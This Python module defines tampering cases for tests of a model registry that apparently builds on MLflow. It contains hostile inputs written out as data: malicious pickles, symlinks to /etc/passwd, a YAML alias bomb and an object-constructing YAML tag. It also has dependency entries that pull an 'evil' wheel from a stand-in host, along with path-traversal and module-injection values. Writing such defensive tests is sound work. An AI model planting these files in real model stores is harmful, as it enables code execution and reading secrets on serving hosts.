"""What somebody who can write to the registry may do to a version: each function spoils the folder that it is given."""

import json
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
import yaml
from safetensors.torch import load_file, save_file
from torch import Tensor

from benchmarks._hostile_weights import Evil
from components.core.version_files import ANSWERS, WEIGHTS

SETTINGS = "weights/model.json"
Spoil = Callable[[Path], Any]
Weights = dict[str, Tensor]


def _file(name: str, content: bytes | str) -> Spoil:
    def write(home: Path) -> None:
        (home / name).unlink(missing_ok=True)
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_bytes(content.encode() if isinstance(content, str) else content)

    return write


def _pickle(name: str) -> Spoil:
    return _file(name, pickle.dumps(Evil()))


def _torch_pickle(name: str) -> Spoil:
    def write(home: Path) -> None:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        torch.save(Evil(), home / name)

    return write


def _gone(name: str) -> Spoil:
    return lambda home: (home / name).unlink()


def _cut(name: str) -> Spoil:
    def cut(home: Path) -> None:
        content = (home / name).read_bytes()
        (home / name).write_bytes(content[: len(content) // 2])

    return cut


def _sparse(name: str, size: int) -> Spoil:
    return lambda home: os.truncate(home / name, size)


def _link(name: str, target: str) -> Spoil:
    def link(home: Path) -> None:
        (home / name).unlink(missing_ok=True)
        (home / name).symlink_to(target)

    return link


def _linked_folder(home: Path) -> None:
    (home / "weights").rename(home.parent / f"{home.name}-aside")
    (home / "weights").symlink_to(home.parent / f"{home.name}-aside")


def _pipe(home: Path) -> None:
    (home / ANSWERS).unlink()
    os.mkfifo(home / ANSWERS)


def _json(name: str, *keys: str, value: Any) -> Spoil:
    def change(home: Path) -> None:
        facts = json.loads((home / name).read_text())
        inner = facts
        for key in keys[:-1]:
            inner = inner[key]
        inner[keys[-1]] = value
        (home / name).write_text(json.dumps(facts))

    return change


def _settings(*keys: str, value: Any) -> Spoil:
    return _json(SETTINGS, *keys, value=value)


def _option(value: Any) -> Spoil:
    return _settings("encoder", "options", value=value)


def _modality(setting: str, value: Any) -> Spoil:
    return _settings("encoder", "inputs", "modality", setting, value=value)


def _statistic(name: str, value: Any) -> Spoil:
    return _settings("encoder", "inputs", "statistics", name, value=value)


def _weights(change: Callable[[Weights], Any]) -> Spoil:
    def write(home: Path) -> None:
        tensors = load_file(home / WEIGHTS)
        change(tensors)
        save_file(tensors, home / WEIGHTS)

    return write


def _replaced(name: str, make: Callable[[Tensor], Tensor]) -> Spoil:
    return _weights(lambda tensors: tensors.update({name: make(tensors[name])}))


def _swapped(tensors: Weights) -> None:
    one, other = "stages.0.norm1.weight", "stages.0.norm1.bias"
    names = ("encoder." + one, "encoder." + other)
    tensors[names[0]], tensors[names[1]] = tensors[names[1]], tensors[names[0]]


def _flavor(key: str, value: Any) -> Spoil:
    def change(home: Path) -> None:
        facts = yaml.safe_load((home / "MLmodel").read_text())
        facts["flavors"]["python_function"][key] = value
        (home / "MLmodel").write_text(yaml.safe_dump(facts))

    return change


def _other_flavor(home: Path) -> None:
    facts = yaml.safe_load((home / "MLmodel").read_text())
    facts["flavors"]["sklearn"] = {"pickled_model": "model.pkl"}
    (home / "MLmodel").write_text(yaml.safe_dump(facts))


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
HUGE = 10**9
FILES: dict[str, Spoil] = {
    "a pickle where MLflow's server looks first": _torch_pickle("data/model.pth"),
    "a pickle as the program that was served before": _pickle("data/model.pt2"),
    "a pickle beside the weights": _pickle("weights/model.pkl"),
    "a .bin beside the weights": _torch_pickle("weights/pytorch_model.bin"),
    "a pickle by the name of the weights": _pickle(WEIGHTS),
    "a torch pickle by the name of the weights": _torch_pickle(WEIGHTS),
    "a pickle by the name of the settings": _pickle(SETTINGS),
    "a pickle by the name of the answers": _pickle(ANSWERS),
    "a pickle by the name of MLmodel": _pickle("MLmodel"),
    "code": _file("code/evil.py", "open('executed', 'w')"),
    "a module by a library's name": _file("torch.py", "open('executed', 'w')"),
    "a package": _file("__init__.py", "open('executed', 'w')"),
    "compiled code": _file("__pycache__/evil.cpython-311.pyc", b"\0"),
    "a path file": _file("evil.pth", "import evil"),
    "requirements by address": _file("requirements.txt", "evil @ https://example.org/evil.whl\n"),
    "an environment": _file("conda.yaml", "dependencies: [{pip: ['--index-url https://example.org', evil]}]"),
    "a hidden file": _file(".env", "A=1"),
    "a folder in the folder": _file("weights/more/model.safetensors", b"x"),
    "a name of two lines": _file("weights/a\nb", b"x"),
    "a name of another letter case": _file("mlmodel", b"x"),
    "a link to a file outside": _link("answers.json", "/etc/passwd"),
    "a link more": _link("weights/passwd", "/etc/passwd"),
    "a link to itself": _link("MLmodel", "MLmodel"),
    "an endless file": _link(WEIGHTS, "/dev/zero"),
    "a folder that is a link": _linked_folder,
    "a pipe": _pipe,
    "weights of twenty gigabytes": _sparse(WEIGHTS, 20 * 2**30),
    "settings of a gigabyte": _sparse(SETTINGS, 2**30),
    "MLmodel of a gigabyte": _sparse("MLmodel", 2**30),
    "half the weights": _cut(WEIGHTS),
    "half the settings": _cut(SETTINGS),
    "half the answers": _cut(ANSWERS),
    "half the example": _cut("serving_input_example.json"),
    "half of MLmodel": _cut("MLmodel"),
    "no weights": _gone(WEIGHTS),
    "no settings": _gone(SETTINGS),
    "no answers": _gone(ANSWERS),
    "no example": _gone("serving_input_example.json"),
    "no MLmodel": _gone("MLmodel"),
    "empty weights": _file(WEIGHTS, b""),
    "a header of exabytes": _file(WEIGHTS, (2**60).to_bytes(8, "little") + b"{}"),
    "weights without tensors": _file(WEIGHTS, (2).to_bytes(8, "little") + b"{}"),
    "settings that are a list": _file(SETTINGS, "[]"),
    "settings not of UTF-8": _file(SETTINGS, b'{"method": "\xff"}'),
    "settings nested too deep": _file(SETTINGS, "[" * 100_000),
    "a network of a billion channels": _option({"width": HUGE}),
    "a network of a billion blocks": _option({"blocks": [HUGE, 1, 1]}),
    "a network larger than memory": _option({"width": 1024, "blocks": [64, 64, 64]}),
    "an option of a class": _option({"width": {"__reduce__": "x"}}),
    "an unknown option": _option({"loader": "evil"}),
    "pictures of a billion pixels": _modality("image_size", HUGE),
    "pictures of a billion channels": _modality("channels", HUGE),
    "a kind of data by path": _modality("name", "../../evil"),
    "a kind of data by module": _modality("name", "os"),
    "no kind of data": _settings("encoder", "inputs", value={}),
    "adapters of a billion numbers": _settings("encoder", "additions", value={"adapters": HUGE}),
    "an encoder by path": _settings("encoder", "name", value="../../evil"),
    "an encoder by module": _settings("encoder", "name", value="os"),
    "vectors of another length": _settings("encoder", "dim", value=7),
    "a mean too many": _statistic("mean", [0.5, 0.5]),
    "no deviation": _statistic("std", [0.0]),
    "a deviation next to nothing": _statistic("std", [1e-300]),
    "another scale of the pictures": _statistic("std", [0.05]),
    "no temperature": _settings("temperature", value=0),
    "another temperature": _settings("temperature", value=2.0),
    "a class too many": _settings("classes", value=["cat", "cow", "dog"]),
    "no classes": _settings("classes", value=[]),
    "weights that are not finite": _replaced("head.weight", lambda own: own * float("nan")),
    "weights without end": _replaced("head.bias", lambda own: own + float("inf")),
    "weights of 1e38": _replaced("head.weight", lambda own: own + 1e38),
    "weights of int8": _replaced("head.weight", lambda own: own.to(torch.int8)),
    "weights of bool": _replaced("head.weight", lambda own: own > 0),
    "weights of complex numbers": _replaced("head.weight", lambda own: own.to(torch.complex64)),
    "negative variances": _replaced("encoder.stem.1.running_var", lambda own: own - 2),
    "weights of another shape": _replaced("head.weight", lambda own: own[:1].contiguous()),
    "a weight less": _weights(lambda tensors: tensors.pop("head.bias")),
    "a weight more": _weights(lambda tensors: tensors.update(evil=torch.zeros(1))),
    "two weights for each other": _weights(_swapped),
    "weights that answer otherwise": _replaced("head.weight", lambda own: -own),
    "answers that are no numbers": _json(ANSWERS, "predictions", value=[[float("nan")] * 2] * 2),
    "answers of another model": _json(ANSWERS, "predictions", value=[[0.5, 0.5], [0.1, 0.9]]),
    "answers of words": _json(ANSWERS, "predictions", value="all of them"),
    "answers of another shape": _json(ANSWERS, "predictions", value=[[1.0]]),
    "answers that are a list": _file(ANSWERS, "[]"),
    "an example of another shape": _json("serving_input_example.json", "inputs", value=[[[[0]]]]),
    "an example of huge numbers": _json("serving_input_example.json", "inputs", value=[[[[10**400]]]]),
    "another loader": _flavor("loader_module", "evil"),
    "a loader of MLflow's own": _flavor("loader_module", "mlflow.sklearn"),
    "code in MLmodel": _flavor("code", "code"),
    "a folder above": _flavor("data", "../../weights"),
    "a folder elsewhere": _flavor("data", "/etc"),
    "a pickle module": _flavor("pickle_module_name", "evil"),
    "an environment in MLmodel": _flavor("env", {"conda": "https://example.org/conda.yaml"}),
    "another flavor": _other_flavor,
    "an alias bomb": _file("MLmodel", BOMB),
    "MLmodel that makes objects": _file("MLmodel", "flavors: !!python/object/apply:os.mkdir [executed]"),
    "MLmodel nested too deep": _file("MLmodel", "flavors: " + "[" * 20_000),
    "MLmodel that is a list": _file("MLmodel", "- flavors"),
    "MLmodel without flavors": _file("MLmodel", "flavors: {python_function: 1}"),
    "MLmodel not of UTF-8": _file("MLmodel", b"flavors: \xff\xfe"),
    "MLmodel that is no YAML": _file("MLmodel", "a: [b"),
    "MLmodel that is empty": _file("MLmodel", ""),
}
SOURCES = {
    "a folder of this machine": "file:///etc",
    "a path of this machine": "/etc",
    "another server": "http://127.0.0.1:9/model",
    "a storage": "s3://bucket/model",
    "a run's artifacts": "runs:/0123456789abcdef0123456789abcdef/model",
    "another version": "models:/winnow/1",
    "a model that is not there": "models:/m-00000000000000000000000000000000",
    "a path out of the models": "models:/m-0/../../../etc",
    "nothing": "",
}
TAGS: dict[str, dict[str, str]] = {
    "no digest": {"content_sha256": "", "model_sha256": ""},
    "a digest that is a path": {"model_sha256": "../../../../tmp/evil"},
    "a digest of another model": {"model_sha256": "0" * 64},
    "a digest of other files": {"content_sha256": "0" * 64},
    "a digest of no hex": {"content_sha256": "x" * 64},
    "a digest of thousands of characters": {"content_sha256": "0" * 5000},
}


def endless(case: str) -> bool:
    """Whether this case of FILES cannot be read to its end, so that no tag can match it."""
    return case in ("an endless file", "a pipe", "a link to itself") or "gigabyte" in case
